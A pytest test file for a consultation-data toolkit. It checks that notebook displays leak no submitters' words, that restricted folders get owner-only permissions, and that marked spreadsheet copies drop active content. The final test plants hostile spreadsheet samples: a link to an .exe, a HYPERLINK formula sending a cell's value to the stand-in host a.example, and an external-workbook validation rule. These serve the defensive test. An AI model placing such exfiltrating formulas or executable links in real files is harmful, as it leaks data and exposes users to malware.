"""Words of persons: in no record that a notebook shows by accident, and on disk only for their owner."""

import dataclasses
import shutil
import stat
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from IPython.core.formatters import DisplayFormatter
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.datavalidation import DataValidation
from pydantic import BaseModel

from kit.app.make.checking import ANSWERS, mark_faulty
from kit.app.make.keeping import lay_down
from kit.app.work import open_campaign
from kit.documents.catalogue.material import example_campaign
from kit.files.writing import restricted_folders, write_new
from kit.sheets.writing.marked import write_marked
from kit.topics.kinds import kinds_of

ROOT = Path(__file__).parents[2]
LONGEST = 300
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such rights")


def reached(thing: Any, seen: dict[int, Any]) -> None:
    """Gather every record that hangs on a thing, as a notebook would get at it."""
    if id(thing) in seen or isinstance(thing, (str, int, float, bytes, type)) or callable(thing):
        return
    if dataclasses.is_dataclass(thing) or isinstance(thing, (BaseModel, dict)):
        seen[id(thing)] = thing
    if isinstance(thing, dict):
        inner = list(thing.values())
    elif isinstance(thing, (Sequence, set, frozenset)):
        inner = list(thing)[:200]
    elif type(thing).__module__.startswith("kit."):
        names = getattr(thing, "__slots__", ()) or vars(thing)
        inner = [getattr(thing, name) for name in names]
    else:
        inner = []
    for each in inner:
        reached(each, seen)


@pytest.fixture(scope="module")
def records() -> list[Any]:
    """Return what hangs on the opened demo, without its raw data frames."""
    work = open_campaign(ROOT / "data/demo")
    seen: dict[int, Any] = {}
    for thing in (work, work.facts, work.material, work.units, work.all_findings):
        reached(thing, seen)
    for kind in ("opinions", "talks", "ballots"):
        for row in list(work.reading.sheets.rows(kind))[:50]:
            reached(row, seen)
    return [each for each in seen.values() if type(each).__module__.startswith("kit.")]


def test_what_a_notebook_shows_of_a_record_is_short_and_holds_no_persons_words(records: list[Any]) -> None:
    sheets = open_campaign(ROOT / "data/demo").reading.sheets
    columns = ("原文", "提出者姓名")
    said = {str(row[column]) for row in sheets.rows("opinions") for column in columns}
    raw = {words for words in said if len(words) >= 3 and words != "None"}
    show = DisplayFormatter().format

    shown = {type(each).__name__: "".join(map(str, show(each)[0].values())) for each in records}
    every = ["".join(map(str, show(each)[0].values())) for each in records[:3000]]

    wanted = {"Work", "Reading", "Sheets", "Table", "Campaign", "Facts", "Fact", "Row", "Material"}
    assert wanted <= set(shown)
    assert not [text for text in every if len(text) > LONGEST]
    assert not [words for words in raw if any(words in text for text in every)]


@POSIX
def test_restricted_folders_are_their_owners_alone_and_what_lay_open_is_closed(tmp_path: Path) -> None:
    old = tmp_path / "活动" / "out" / "restricted" / "checked" / "旧.xlsx"
    old.parent.mkdir(parents=True)
    old.write_bytes(b"old")
    old.chmod(0o644)
    old.parent.chmod(0o755)

    lay_down(old.with_name("票.xlsx"), b"new", {})
    write_new(tmp_path / "活动" / "opinions" / "restricted" / "0001.jsonl", b"new")
    lay_down(tmp_path / "活动" / "out" / "drafts" / "稿.docx", b"new", {})

    top = tmp_path / "活动"
    modes = {p.relative_to(top).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in top.rglob("*")}
    closed = {name: mode for name, mode in modes.items() if "restricted" in name}
    assert set(closed.values()) == {0o700, 0o600}
    assert all(mode == 0o600 for name, mode in closed.items() if "." in name)
    assert modes["out"] & 0o055
    assert modes["out/drafts/稿.docx"] & 0o044


def test_a_folder_that_only_is_called_so_is_nobodys_business() -> None:
    assert restricted_folders(Path("/srv/restricted/活动/out/drafts/稿.docx")) == ()


def test_ballots_are_personal_sheets() -> None:
    assert {kind.id for kind in kinds_of(example_campaign())} >= ANSWERS


def test_a_marked_copy_of_ballots_lies_apart_even_if_they_came_twice(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    shutil.copytree(ROOT / "data/demo", folder, ignore=shutil.ignore_patterns("out", "make_inbox", "inbox"))
    (folder / "inbox").mkdir()
    work = open_campaign(ROOT / "data/demo")
    [name, *_] = [table.file for table in work.reading.sheets.of("ballots")]
    shutil.copy(ROOT / "data/demo/inbox" / name, folder / "inbox" / name)
    book = load_workbook(folder / "inbox" / name)
    page = book.worksheets[0]
    page.cell(page.max_row, 5).value = "看不懂的等次"
    book.save(folder / "inbox" / name)

    copies = mark_faulty(open_campaign(folder))

    assert {path.parent.relative_to(folder / "out").as_posix() for path in copies} <= {"restricted/checked"}


def test_a_marked_copy_keeps_no_active_links(tmp_path: Path) -> None:
    book = Workbook()
    page = book.worksheets[0]
    page["A1"], page["A2"] = "批次", "点这里"
    page["A2"].hyperlink = "file://srv/a.exe"
    page["A3"] = '=HYPERLINK("http://a.example/?x="&A1,"看")'
    rule = DataValidation(type="list", formula1="[1]别处!$A$1:$A$9")
    rule.add("A2")
    page.add_data_validation(rule)
    book.save(tmp_path / "表.xlsx")

    made = write_marked(tmp_path / "表.xlsx", [], tmp_path / "标.xlsx", ())

    with ZipFile(made) as package:
        text = b"".join(package.read(name) for name in package.namelist()).decode("utf-8", "replace")
    assert "a.exe" not in text
    assert "a.example" not in text
    assert "别处" not in text
    assert load_workbook(made).worksheets[0]["A2"].value == "点这里"
